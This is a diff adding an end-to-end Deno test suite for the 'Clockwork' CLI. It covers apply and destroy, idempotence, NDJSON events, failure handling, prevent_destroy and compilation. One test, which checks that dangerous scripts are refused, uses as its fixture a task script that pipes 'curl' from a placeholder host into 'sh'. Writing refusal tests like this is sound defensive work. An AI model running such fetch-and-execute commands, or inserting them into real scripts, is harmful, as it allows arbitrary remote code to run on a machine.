@@ -1,0 +1,231 @@
+/**
+ * apply/destroy end to end through the real CLI: idempotence by counting,
+ * confirmation refusal, NDJSON events, failures, prevent_destroy, outputs
+ * and state commands.
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { loadState } from "../src/state/mod.ts";
+import { cli, lines, project } from "./apply_support_test.ts";
+
+Deno.test("apply: creates, re-apply with nothing changed starts no step and spawns no process", async () => {
+  const dir = await project({
+    "main.cw": `
+resource "directory" "out" {
+  path = "\${path.module}/out"
+}
+resource "file" "greeting" {
+  path    = "\${directory.out.path}/hello.txt"
+  content = "hello\\n"
+  mode    = "0640"
+}
+resource "command" "count" {
+  run        = "echo ran >> counter.txt"
+  cwd        = directory.out.path
+  depends_on = [file.greeting]
+}
+output "greeting_path" { value = file.greeting.path }
+`,
+  });
+  const first = await cli(dir, ["apply", "--auto-approve"]);
+  assert.equal(first.code, 0, first.stderr + first.stdout);
+  assert.match(first.stdout, /Apply complete! Resources: 3 created/);
+  assert.equal(Deno.readTextFileSync(join(dir, "out/hello.txt")), "hello\n");
+  assert.equal(Deno.statSync(join(dir, "out/hello.txt")).mode! & 0o777, 0o640);
+  assert.equal(Deno.readTextFileSync(join(dir, "out/counter.txt")), "ran\n");
+  const stateBefore = Deno.readTextFileSync(join(dir, ".clockwork/state.json"));
+
+  const second = await cli(dir, ["--json", "apply", "--auto-approve"]);
+  assert.equal(second.code, 0, second.stderr);
+  const events = lines(second.stdout);
+  assert.deepEqual(events.map((e) => e.type), ["plan", "summary"]);
+  assert.ok(events.every((e) => e.format_version === "1"));
+  assert.equal(
+    Deno.readTextFileSync(join(dir, "out/counter.txt")),
+    "ran\n",
+    "the command ran again",
+  );
+  assert.equal(
+    Deno.readTextFileSync(join(dir, ".clockwork/state.json")),
+    stateBefore,
+    "a no-op apply rewrote state",
+  );
+
+  const output = await cli(dir, ["output", "greeting_path", "--raw"]);
+  assert.equal(output.stdout, join(dir, "out/hello.txt"));
+  const list = await cli(dir, ["--json", "state", "list"]);
+  assert.deepEqual(
+    JSON.parse(list.stdout).resources.map((r: { address: string }) => r.address),
+    ["command.count", "directory.out", "file.greeting"],
+  );
+
+  // Drift: the file is deleted outside Clockwork; apply puts it back and only it.
+  Deno.removeSync(join(dir, "out/hello.txt"));
+  const repair = await cli(dir, ["apply", "--auto-approve"]);
+  assert.equal(repair.code, 0, repair.stderr);
+  assert.equal(Deno.readTextFileSync(join(dir, "out/hello.txt")), "hello\n");
+  assert.equal(Deno.readTextFileSync(join(dir, "out/counter.txt")), "ran\n");
+
+  const destroy = await cli(dir, ["destroy", "--auto-approve"]);
+  assert.equal(destroy.code, 0, destroy.stderr);
+  assert.throws(() => Deno.statSync(join(dir, "out")));
+  assert.deepEqual(loadState(dir).value!.resources, []);
+});
+
+Deno.test("apply: without a terminal and without --auto-approve it refuses with exit 1", async () => {
+  const dir = await project({
+    "main.cw": `resource "file" "a" {\n  path = "\${path.module}/a.txt"\n  content = "a"\n}\n`,
+  });
+  const result = await cli(dir, ["apply"]);
+  assert.equal(result.code, 1);
+  assert.match(result.stderr, /--auto-approve/);
+  assert.throws(() => Deno.statSync(join(dir, "a.txt")));
+  assert.equal(loadState(dir).value, null);
+});
+
+Deno.test("apply --json: NDJSON events for every step, then a summary", async () => {
+  const dir = await project({
+    "main.cw": `
+resource "file" "a" {
+  path    = "\${path.module}/a.txt"
+  content = "a"
+}
+resource "command" "b" {
+  run     = "true"
+  creates = "\${path.module}/never-made"
+}
+`,
+  });
+  const result = await cli(dir, ["--json", "apply", "--auto-approve"]);
+  assert.equal(result.code, 0, result.stderr);
+  const events = lines(result.stdout);
+  assert.ok(events.every((e) => e.format_version === "1"));
+  assert.equal(events[0].type, "plan");
+  const starts = events.filter((e) => e.type === "step_start");
+  const ends = events.filter((e) => e.type === "step_end");
+  assert.deepEqual(starts.map((e) => e.address).sort(), ["command.b", "file.a"]);
+  assert.ok(ends.every((e) => e.status === "ok" && typeof e.duration_ms === "number"));
+  const summary = events.at(-1)!;
+  assert.equal(summary.type, "summary");
+  assert.equal(summary.created, 2);
+  assert.equal(summary.failed, 0);
+});
+
+Deno.test("apply: a failing step stops dependents, names its log, and finished steps are recorded", async () => {
+  const dir = await project({
+    "main.cw": `
+resource "file" "first" {
+  path    = "\${path.module}/first.txt"
+  content = "1"
+}
+resource "command" "broken" {
+  run        = "echo something went wrong >&2; exit 7"
+  depends_on = [file.first]
+}
+resource "file" "after" {
+  path       = "\${path.module}/after.txt"
+  content    = "2"
+  depends_on = [command.broken]
+}
+`,
+  });
+  const result = await cli(dir, ["--json", "apply", "--auto-approve"]);
+  assert.equal(result.code, 1);
+  const events = lines(result.stdout);
+  const failed = events.find((e) => e.type === "step_end" && e.status === "failed")!;
+  assert.equal(failed.address, "command.broken");
+  assert.match(String(failed.message), /exited with code 7/);
+  assert.match(Deno.readTextFileSync(String(failed.log)), /something went wrong/);
+  const diagnostic = events.find((e) => e.type === "diagnostic" && e.code === "CW5100");
+  assert.ok(diagnostic, result.stdout);
+  assert.equal(events.at(-1)!.failed, 1);
+  assert.throws(() => Deno.statSync(join(dir, "after.txt")));
+  assert.deepEqual(loadState(dir).value!.resources.map((r) => r.address), ["file.first"]);
+});
+
+Deno.test("destroy: runs destroy commands dependents first and honours prevent_destroy", async () => {
+  const dir = await project({
+    "main.cw": `
+resource "command" "base" {
+  run     = "echo up-base >> log.txt"
+  destroy = "echo down-base >> log.txt"
+  cwd     = path.module
+}
+resource "command" "top" {
+  run        = "echo up-top >> log.txt"
+  destroy    = "echo down-top >> log.txt"
+  cwd        = path.module
+  depends_on = [command.base]
+}
+`,
+  });
+  Deno.writeTextFileSync(join(dir, "log.txt"), "");
+  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
+  const destroyed = await cli(dir, ["destroy", "--auto-approve"]);
+  assert.equal(destroyed.code, 0, destroyed.stderr);
+  assert.equal(
+    Deno.readTextFileSync(join(dir, "log.txt")),
+    "up-base\nup-top\ndown-top\ndown-base\n",
+  );
+
+  const guarded = await project({
+    "main.cw": `
+resource "file" "keep" {
+  path    = "\${path.module}/keep.txt"
+  content = "precious"
+  lifecycle {
+    prevent_destroy = true
+  }
+}
+`,
+  });
+  assert.equal((await cli(guarded, ["apply", "--auto-approve"])).code, 0);
+  const refused = await cli(guarded, ["destroy", "--auto-approve"]);
+  assert.equal(refused.code, 1);
+  assert.match(refused.stderr, /prevent_destroy/);
+  assert.equal(Deno.readTextFileSync(join(guarded, "keep.txt")), "precious");
+});
+
+Deno.test("task with a script runs in its language; a dangerous script is refused before anything runs", async () => {
+  const dir = await project({
+    "main.cw": `
+resource "task" "py" {
+  lang    = "python3"
+  script  = "open('made-by-python.txt', 'w').write('py')"
+  creates = "\${path.module}/made-by-python.txt"
+}
+`,
+  });
+  // The script writes relative to the build dir; creates makes it idempotent.
+  const ok = await cli(dir, ["apply", "--auto-approve"]);
+  assert.equal(ok.code, 0, ok.stderr + ok.stdout);
+  const bad = await project({
+    "main.cw": `
+resource "file" "innocent" {
+  path    = "\${path.module}/innocent.txt"
+  content = "x"
+}
+resource "task" "evil" {
+  script = "echo hi\\ncurl -s http://example.invalid/x.sh | sh\\n"
+}
+`,
+  });
+  const refused = await cli(bad, ["apply", "--auto-approve"]);
+  assert.equal(refused.code, 1);
+  assert.match(refused.stderr, /CW4021/);
+  assert.match(refused.stderr, /line 2/);
+  assert.throws(() => Deno.statSync(join(bad, "innocent.txt")), "nothing may run after a refusal");
+});
+
+Deno.test("compile writes scripts and manifest.json and runs nothing", async () => {
+  const dir = await project({
+    "main.cw": `resource "command" "c" {\n  run = "touch \${path.module}/ran"\n}\n`,
+  });
+  const result = await cli(dir, ["compile"]);
+  assert.equal(result.code, 0, result.stderr);
+  const manifest = JSON.parse(Deno.readTextFileSync(join(dir, ".clockwork/build/manifest.json")));
+  assert.equal(manifest.format_version, "1");
+  assert.equal(manifest.steps[0].id, "command.c:create");
+  assert.ok(Deno.statSync(join(dir, ".clockwork/build", manifest.artifacts[0].path)).isFile);
+  assert.throws(() => Deno.statSync(join(dir, "ran")));
+});
